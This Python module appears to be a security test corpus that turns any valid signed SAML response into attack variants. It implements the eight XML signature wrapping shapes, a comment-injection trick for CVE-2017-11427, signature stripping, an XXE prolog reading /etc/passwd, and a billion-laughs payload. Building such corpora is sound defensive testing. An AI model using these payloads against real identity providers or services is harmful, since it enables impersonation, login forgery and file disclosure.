"""The attack corpus: variants generated from any valid signed SAML response.

XML signature wrapping follows the eight classic shapes (Somorovsky et al., "On Breaking SAML:
Be Whoever You Want to Be", 2012): each keeps the genuinely signed element somewhere the
signature still verifies, and adds an evil element the SP might read instead.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

A = "urn:oasis:names:tc:SAML:2.0:assertion"
P = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
EVIL = "mallory@evil.test"


def _q(ns: str, tag: str) -> str:
    return f"{{{ns}}}{tag}"


def _assertion(root: etree._Element) -> etree._Element:
    found = root.find(_q(A, "Assertion"))
    assert found is not None
    return found


def _evil(assertion: etree._Element, *, new_id: bool = True) -> etree._Element:
    """A copy of ``assertion`` naming the attacker, without its signature."""
    evil = copy.deepcopy(assertion)
    for sig in evil.findall(_q(DS, "Signature")):
        evil.remove(sig)
    name_id = evil.find(f"{_q(A, 'Subject')}/{_q(A, 'NameID')}")
    assert name_id is not None
    name_id.text = EVIL
    if new_id:
        evil.set("ID", "_evil" + (assertion.get("ID") or ""))
    return evil


def _strip_signature(node: etree._Element) -> etree._Element:
    for sig in node.findall(_q(DS, "Signature")):
        node.remove(sig)
    return node


def xsw1(root: etree._Element) -> etree._Element:
    """Evil Response first; the signed original Response inside its Signature (as an Object)."""
    original = copy.deepcopy(root)
    evil = copy.deepcopy(root)
    evil.set("ID", "_evilresponse")
    evil.replace(_assertion(evil), _evil(_assertion(evil)))
    signature = evil.find(_q(DS, "Signature"))
    if signature is None:  # the Response was unsigned: borrow the assertion's signature
        signature = copy.deepcopy(_assertion(root).find(_q(DS, "Signature")))
        assert signature is not None
        evil.insert(1, signature)
    obj = etree.SubElement(signature, _q(DS, "Object"))
    obj.append(original)
    return evil


def xsw2(root: etree._Element) -> etree._Element:
    """Like XSW1, but the original Response sits beside the Signature (detached)."""
    evil = xsw1(root)
    signature = evil.find(_q(DS, "Signature"))
    assert signature is not None
    obj = signature.find(_q(DS, "Object"))
    assert obj is not None
    original = obj[0]
    signature.remove(obj)
    signature.addprevious(original)
    return evil


def xsw3(root: etree._Element) -> etree._Element:
    """Evil assertion before the signed one, as a sibling."""
    doc = copy.deepcopy(root)
    assertion = _assertion(doc)
    assertion.addprevious(_evil(assertion))
    return doc


def xsw4(root: etree._Element) -> etree._Element:
    """Evil assertion wrapping the signed one."""
    doc = copy.deepcopy(root)
    assertion = _assertion(doc)
    evil = _evil(assertion)
    doc.replace(assertion, evil)
    evil.append(assertion)
    return doc


def _signature_moved_to_evil(
    doc: etree._Element, place_original: Callable[[etree._Element, etree._Element], None]
) -> etree._Element:
    """Move the assertion's signature onto an evil copy with the same ID; then put the
    original (signature stripped) where ``place_original(signature, original)`` says."""
    assertion = _assertion(doc)
    evil = _evil(assertion, new_id=False)
    signature = assertion.find(_q(DS, "Signature"))
    assert signature is not None
    evil.insert(1, signature)
    doc.replace(assertion, evil)
    place_original(signature, _strip_signature(assertion))
    return doc


def xsw5(root: etree._Element) -> etree._Element:
    """The signature moved onto an evil copy; the original, unsigned, appended last."""
    doc = copy.deepcopy(root)
    return _signature_moved_to_evil(doc, lambda _signature, original: doc.append(original))


def xsw6(root: etree._Element) -> etree._Element:
    """Evil copy carries the signature; the original sits directly inside that Signature."""
    return _signature_moved_to_evil(copy.deepcopy(root), lambda sig, orig: sig.append(orig))


def xsw7(root: etree._Element) -> etree._Element:
    """The signed assertion hidden in an Extensions element; an evil one where the SP looks."""
    doc = copy.deepcopy(root)
    assertion = _assertion(doc)
    extensions = etree.Element(_q(P, "Extensions"))
    doc.replace(assertion, _evil(assertion))
    extensions.append(assertion)
    doc.insert(1, extensions)
    return doc


def xsw8(root: etree._Element) -> etree._Element:
    """Evil copy carries the signature; the original sits in a ds:Object inside it."""

    def into_object(signature: etree._Element, original: etree._Element) -> None:
        etree.SubElement(signature, _q(DS, "Object")).append(original)

    return _signature_moved_to_evil(copy.deepcopy(root), into_object)


WRAPPINGS: dict[str, Callable[[etree._Element], etree._Element]] = {
    "XSW1": xsw1,
    "XSW2": xsw2,
    "XSW3": xsw3,
    "XSW4": xsw4,
    "XSW5": xsw5,
    "XSW6": xsw6,
    "XSW7": xsw7,
    "XSW8": xsw8,
}


def inject_comment(xml: bytes, value: str, split_at: int) -> bytes:
    """Insert ``<!---->`` into the text ``value`` after ``split_at`` characters (CVE-2017-11427).

    Exclusive canonicalization drops comments, so the signature still verifies.
    """
    encoded = value.encode()
    assert xml.count(encoded) >= 1, value
    return xml.replace(encoded, encoded[:split_at] + b"<!---->" + encoded[split_at:])


def strip_all_signatures(root: etree._Element) -> etree._Element:
    doc = copy.deepcopy(root)
    for sig in doc.iter(_q(DS, "Signature")):
        parent = sig.getparent()
        assert parent is not None
        parent.remove(sig)
    return doc


DOCTYPE_XXE = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>\n'
)


def with_prolog(xml: bytes, prolog: bytes, entity_ref: bytes) -> bytes:
    """``xml`` with a DOCTYPE prolog and an entity reference put into the NameID."""
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    return prolog + body.replace(b"alice@example.com", entity_ref, 1)
